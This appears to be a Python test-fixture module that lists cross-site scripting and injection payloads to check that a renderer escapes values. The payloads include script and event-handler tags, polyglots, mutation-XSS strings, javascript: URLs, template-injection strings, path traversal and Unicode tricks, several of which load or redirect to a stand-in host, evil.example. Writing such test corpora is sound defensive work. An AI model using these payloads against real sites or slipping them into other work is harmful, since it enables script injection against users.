"""Values that try to get out of the place they are printed in. `alert`, `print` and their like are what they try.

None stands alone for a class of attacks: a place that lets one through shows as a document that differs.
"""

from typing import Final

HARMLESS: Final = "Zq7x"
"""Reads the same in every encoding, and stands nowhere else."""

HARMLESS_POINTS: Final = 7007707

POINTS: Final = (0, 1, -1, 60, 2**53 - 1, 1 - 2**53)
"""The integers that go with the payloads, in turn."""

_TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</ScRiPt\t>",
    "<script/src=data:,alert(1)>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:parent.alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input type=submit autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<?x",
    "<a",
    "<",
    "</",
    "\u226e",
)
_ENDS = (
    "</script><script>alert(1)</script>",
    "</script\n><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</body></html><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "?><script>alert(1)</script>",
    "<!--<script>",
    "</p><p>",
)
_ATTRIBUTES = (
    '"',
    "'",
    "`",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "'><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "\t onclick=alert(1) ",
    "x onclick=alert(1)",
    "/onclick=alert(1)/",
    "=alert(1)",
    ">",
    "\\",
    "\\' onclick=alert(1) \\\"",
)
_POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"-->]]>*/</script></style></title></textarea></noscript><svg/onload=alert(1)>",
    "`-alert(1)-'-alert(1)-\"-alert(1)//\\",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}#{alert(1)}<%= alert(1) %>",
)
_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><template><script>alert(1)</script></template></select>",
)
_REFERENCES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;script&#x3e;",
    "&lt",
    "lt;",
    "amp;lt;",
    "#60;",
    "&",
    "&NewLine;&Tab;&colon;&quot;&apos;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
)
_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01\x1fjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\r\nscript:alert(1)",
    "java\0script:alert(1)",
    "\ufeffjavascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript%3aalert(1)",
    "javascript://evil.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "blob:http://site.example/x",
    "filesystem:http://site.example/x",
    "view-source:http://site.example/",
    "http://evil.example/",
    "HTTPS:evil.example",
    "mailto:a@evil.example?subject=x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\t/evil.example",
    "///evil.example",
    "../../etc",
    "..",
    ".",
    "%2e%2e/",
    "a/../../b?c#d",
    "?x=1&y=2#z",
    "http://[",
    "evil.example:80/",
    "@evil.example",
)
_SCRIPTS = (
    '"-alert(1)-"',
    "'-alert(1)-'",
    "${alert(1)}",
    "`;alert(1)//",
    '";alert(1)//',
    "*/alert(1)/*",
    '\\";alert(1)//',
    '","x":"',
    '"}];alert(1);[{"',
    "\u2028alert(1)\u2029",
    "\nalert(1)\n",
    "use strict",
    "__proto__",
    "<!--<script>alert(1)//-->",
    "\n-->",
)
_TEXTS = (
    "",
    " ",
    "\n",
    "\r\n a \r b \n",
    "\t",
    "\f",
    "\0",
    "a\0<\0script\0>alert(1)",
    "\x01\x0b\x0e\x1b\x7f\x80\x85\x9f",
    "\ufeff\ufffe\uffff\U0010ffff",
    "\u202e\u2066evil\u2069\u202c\u200b\u200f",
    "Zoë 漢字 🎉 e\u0301 \u00a0",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b$B<script>\x1b(B",
    "{USER_NAME}",
    "{_}",
    "{USER_NAME:json}{?STATE=guest}{/STATE}",
    "<!--INJECT:x-->",
    "{{ user.name }}{% raw %}{# #}",
)
_LONG = ("x" * 4000, "<b>" * 600, "&" * 1000)

PAYLOADS: Final = (
    *_TAGS, *_ENDS, *_ATTRIBUTES, *_POLYGLOTS, *_MUTATIONS, *_REFERENCES, *_URLS, *_SCRIPTS, *_TEXTS, *_LONG,
)  # fmt: skip

JOINED: Final = tuple(
    map(
        "".join,
        (_TAGS, _ENDS, _ATTRIBUTES, _POLYGLOTS, _MUTATIONS, _REFERENCES, _URLS, _SCRIPTS, _TEXTS),
    )
)
"""The same in few values, for what takes long: each is one text of many attempts."""
